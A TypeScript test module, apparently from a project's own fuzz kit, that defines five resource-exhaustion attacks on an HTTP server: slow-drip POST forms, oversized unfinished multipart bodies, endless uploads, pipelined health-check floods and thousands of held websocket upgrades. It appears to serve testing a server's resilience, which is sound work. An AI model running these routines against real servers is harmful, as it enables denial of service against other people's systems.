// What one address can do to a server. Each attack continues until its process ends.
import type { Socket } from "node:net";
import { addresses, openSocket, originOf, type Target } from "../../tests/kit/fuzz/http-client.ts";

type Attack = { name: string; run(target: Target): void };

const postHead = (target: Target, path: string, length: number) =>
  `POST ${path} HTTP/1.1\r\nhost: ${target.host}\r\norigin: ${originOf(target)}\r\n` +
  `content-type: multipart/form-data; boundary=b\r\ncontent-length: ${length}\r\n\r\n`;

/** Keeps a fixed number of connections busy; one that was closed is opened again. */
function keepOpen(count: number, target: Target, begin: (socket: Socket) => void): void {
  const open = () => {
    const socket = openSocket(target, addresses.attacker);
    socket.on("error", () => undefined);
    socket.on("data", () => undefined);
    socket.once(target.isSecure ? "secureConnect" : "connect", () => begin(socket));
    socket.once("close", () => setTimeout(open, 250));
  };
  for (let i = 0; i < count; i += 1) open();
}

/** Writes chunk after chunk, with a pause between them, while the other side takes them. */
function drip(socket: Socket, chunk: Buffer, everyMs: number) {
  const timer = setInterval(() => socket.writable && !socket.writableNeedDrain && socket.write(chunk), everyMs);
  socket.once("close", () => clearInterval(timer));
}

export const attacks: readonly Attack[] = [
  {
    name: "400 slow forms",
    run: (target) =>
      keepOpen(400, target, (socket) => {
        socket.write(postHead(target, "/auth", 60_000));
        drip(socket, Buffer.from("a"), 2_000);
      }),
  },
  {
    name: "60 unfinished forms of 9.5 MB",
    run: (target) =>
      keepOpen(60, target, (socket) => {
        socket.write(postHead(target, "/auth", 9_500_000));
        drip(socket, Buffer.alloc(190_000, 0x61), 20);
      }),
  },
  {
    name: "100 uploads that never end",
    run: (target) =>
      keepOpen(100, target, (socket) => {
        socket.write(postHead(target, "/api/documents", 39_000_000));
        drip(socket, Buffer.alloc(20_000, 0x61), 2_000);
      }),
  },
  {
    name: "20 connections that pipeline probes",
    run: (target) =>
      keepOpen(20, target, (socket) =>
        drip(socket, Buffer.from(`GET /api/health/live HTTP/1.1\r\nhost: ${target.host}\r\n\r\n`.repeat(1_000)), 20),
      ),
  },
  {
    name: "3,000 upgrades",
    run: (target) =>
      keepOpen(3_000, target, (socket) => {
        socket.write(
          `GET /auth HTTP/1.1\r\nhost: ${target.host}\r\n` +
            "connection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: YQ==\r\n\r\n",
        );
      }),
  },
];
